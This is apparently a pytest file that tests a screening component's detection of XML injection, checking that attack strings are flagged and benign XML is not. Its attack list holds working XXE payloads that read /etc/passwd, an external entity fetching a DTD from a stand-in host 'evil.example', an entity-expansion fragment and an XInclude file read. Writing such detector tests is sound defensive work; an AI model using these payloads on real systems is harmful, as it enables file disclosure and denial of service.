import pytest

from streams.screening.attacks.xml import XML

ATTACKS = [
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    '<!ENTITY % d SYSTEM "http://evil.example/e.dtd">',
    '<!DOCTYPE z [<!ENTITY a "b"><!ENTITY c "&a;&a;&a;">]>',
    '<xi:include parse="text" href="file:///etc/passwd"/>',
]
ORDINARY = [
    "<!DOCTYPE html>",
    '<!ENTITY copy "&#169;">',
    '<?xml version="1.0" encoding="UTF-8"?><note><to>Bob</to></note>',
    "what is an XML entity?",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks(text: str) -> None:
    assert {each.entity for each in XML.find(text)} == {"XML_INJECTION"}


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_texts(text: str) -> None:
    assert XML.find(text) == []
